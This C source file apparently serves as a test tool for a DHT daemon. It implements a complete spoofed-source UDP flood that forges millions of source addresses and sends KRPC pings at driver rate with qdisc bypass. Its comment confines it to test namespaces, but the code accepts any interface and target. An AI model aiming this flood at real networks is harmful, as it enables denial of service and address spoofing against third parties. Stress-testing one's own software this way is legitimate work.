// SPDX-License-Identifier: MIT
/*
 * weft_flood: a spoofed UDP flood for namespace tests (never point it at
 * anything but a veth inside a test namespace). Builds Ethernet/IPv4/UDP
 * frames whose source address walks a permutation of a prefix (so a /9
 * gives 8M distinct forged sources, each sending about once), and sends
 * them with AF_PACKET + sendmmsg + PACKET_QDISC_BYPASS: several times what
 * a Python raw socket reaches.
 *
 *   weft_flood IFNAME DST_MAC DST_IP DPORT SRC_PREFIX/LEN SECONDS [PPS]
 *
 * PPS 0 or absent: as fast as possible. The payload is a KRPC ping (a DHT
 * query weftd answers). Prints "sent N seconds S pps P sources K".
 * Exit 0 when it sent anything, 1 on errors (with a message), 2 on usage.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME 128

static const char ping[] = "d1:ad2:id20:FLOODFLOODFLOODFLOOD"
			   "e1:q4:ping1:t2:fl1:y1:qe";

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint16_t csum(const void *p, size_t n)
{
	const uint8_t *b = p;
	uint32_t s = 0;

	for (size_t i = 0; i + 1 < n; i += 2)
		s += (uint32_t)(b[i] << 8 | b[i + 1]);
	if (n & 1)
		s += (uint32_t)b[n - 1] << 8;
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	return htons((uint16_t)~s);
}

static int parse_mac(const char *s, uint8_t m[6])
{
	unsigned int v[6];

	if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6)
		return -1;
	for (int i = 0; i < 6; i++)
		m[i] = (uint8_t)v[i];
	return 0;
}

int main(int argc, char **argv)
{
	uint8_t frames[BATCH][FRAME], smac[6], dmac[6];
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_ll ll = { 0 };
	struct ifreq ifr = { 0 };
	struct in_addr dst, net;
	unsigned long plen, dport, pps = 0;
	double secs, t0, t;
	uint64_t sent = 0, seq = 0, span;
	size_t flen;
	char *slash;
	int fd, one = 1;

	if (argc < 7 || argc > 8) {
		fprintf(stderr, "usage: weft_flood IFNAME DST_MAC DST_IP DPORT SRC_PREFIX/LEN "
				"SECONDS [PPS]\n");
		return 2;
	}
	slash = strchr(argv[5], '/');
	if (parse_mac(argv[2], dmac) || inet_pton(AF_INET, argv[3], &dst) != 1 || !slash)
		return fprintf(stderr, "weft_flood: bad address\n"), 2;
	*slash = '\0';
	plen = strtoul(slash + 1, NULL, 10);
	dport = strtoul(argv[4], NULL, 10);
	secs = strtod(argv[6], NULL);
	if (argc == 8)
		pps = strtoul(argv[7], NULL, 10);
	if (inet_pton(AF_INET, argv[5], &net) != 1 || plen < 8 || plen > 32 || !dport ||
	    dport > 65535 || secs <= 0)
		return fprintf(stderr, "weft_flood: bad argument\n"), 2;
	span = 1ULL << (32 - plen);

	fd = socket(AF_PACKET, SOCK_RAW, 0);
	if (fd < 0)
		return perror("weft_flood: AF_PACKET socket"), 1;
	snprintf(ifr.ifr_name, sizeof(ifr.ifr_name), "%s", argv[1]);
	if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0)
		return perror("weft_flood: interface"), 1;
	memcpy(smac, ifr.ifr_hwaddr.sa_data, 6);
	/* Straight to the driver: no qdisc, as a NIC-rate attacker would. */
	setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
	ll.sll_family = AF_PACKET;
	ll.sll_ifindex = (int)if_nametoindex(argv[1]);
	ll.sll_halen = 6;
	memcpy(ll.sll_addr, dmac, 6);

	flen = sizeof(struct ether_header) + sizeof(struct iphdr) + sizeof(struct udphdr) +
	       sizeof(ping) - 1;
	for (int i = 0; i < BATCH; i++) {
		struct ether_header *eh = (void *)frames[i];
		struct iphdr *ip = (void *)(eh + 1);
		struct udphdr *udp = (void *)(ip + 1);

		memset(frames[i], 0, FRAME);
		memcpy(eh->ether_dhost, dmac, 6);
		memcpy(eh->ether_shost, smac, 6);
		eh->ether_type = htons(ETHERTYPE_IP);
		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = 64;
		ip->protocol = IPPROTO_UDP;
		ip->tot_len = htons((uint16_t)(flen - sizeof(*eh)));
		ip->daddr = dst.s_addr;
		udp->source = htons(6881);
		udp->dest = htons((uint16_t)dport);
		udp->len = htons((uint16_t)(sizeof(*udp) + sizeof(ping) - 1));
		udp->check = 0; /* optional in IPv4 */
		memcpy(udp + 1, ping, sizeof(ping) - 1);
		iov[i].iov_base = frames[i];
		iov[i].iov_len = flen;
		memset(&msgs[i], 0, sizeof(msgs[i]));
		msgs[i].msg_hdr.msg_name = &ll;
		msgs[i].msg_hdr.msg_namelen = sizeof(ll);
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}

	t0 = now_s();
	for (;;) {
		int n;

		t = now_s() - t0;
		if (t >= secs)
			break;
		if (pps && (double)sent > t * (double)pps) {
			usleep(100);
			continue;
		}
		for (int i = 0; i < BATCH; i++) {
			struct iphdr *ip = (void *)(frames[i] + sizeof(struct ether_header));
			/* Odd multiplier mod 2^k: a permutation of the prefix. */
			uint64_t host = (seq++ * 0x9e3779b1ULL) & (span - 1);

			ip->saddr = htonl(ntohl(net.s_addr) + (uint32_t)host);
			ip->id = htons((uint16_t)seq);
			ip->check = 0;
			ip->check = csum(ip, sizeof(*ip));
		}
		n = sendmmsg(fd, msgs, BATCH, 0);
		if (n < 0) {
			if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR)
				continue;
			perror("weft_flood: sendmmsg");
			break;
		}
		sent += (uint64_t)n;
	}
	t = now_s() - t0;
	printf("sent %llu seconds %.3f pps %.0f sources %llu\n", (unsigned long long)sent, t,
	       (double)sent / t, (unsigned long long)(sent < span ? sent : span));
	close(fd);
	return sent ? 0 : 1;
}
